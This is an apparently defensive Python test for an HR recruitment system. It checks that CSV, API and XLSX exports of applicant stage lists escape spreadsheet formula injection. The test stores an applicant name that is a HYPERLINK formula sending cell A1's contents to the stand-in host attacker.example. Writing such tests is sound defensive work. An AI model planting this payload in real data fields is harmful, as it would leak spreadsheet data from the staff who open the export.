"""Attack: an applicant registers with a name a spreadsheet would run; HR exports the stage list."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from kinerja.recruitment.models import Applicant
from kinerja.recruitment.services.openings import publish_opening
from kinerja.recruitment.services.selection import close_registration, included_stages
from tests.helpers import client_for
from tests.recruitment.flow import register_and_apply

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Lihat berkas")'


def test_an_applicant_named_as_a_formula(national):
    org = national
    opening = org.opening()
    publish_opening(opening, actor=org.hr)
    applications = register_and_apply(opening, count=2)
    Applicant.objects.filter(pk=applications[1].applicant_id).update(full_name=FORMULA)
    close_registration(opening, actor=org.hr)
    stage = included_stages(opening)[0]
    hr = client_for(org.region, org.hr)
    for url in (f"/recruitment/stages/{stage.pk}/export.csv", f"/api/v1/recruitment/stages/{stage.pk}/export/"):
        response = hr.get(url)
        assert response.status_code == 200, url
        if response.content[:2] == b"PK":
            continue
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert "'" + FORMULA in [row[1] for row in rows[1:]], url
    response = hr.get(f"/recruitment/stages/{stage.pk}/export.xlsx")
    cells = [cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + FORMULA in [c.value for c in cells]
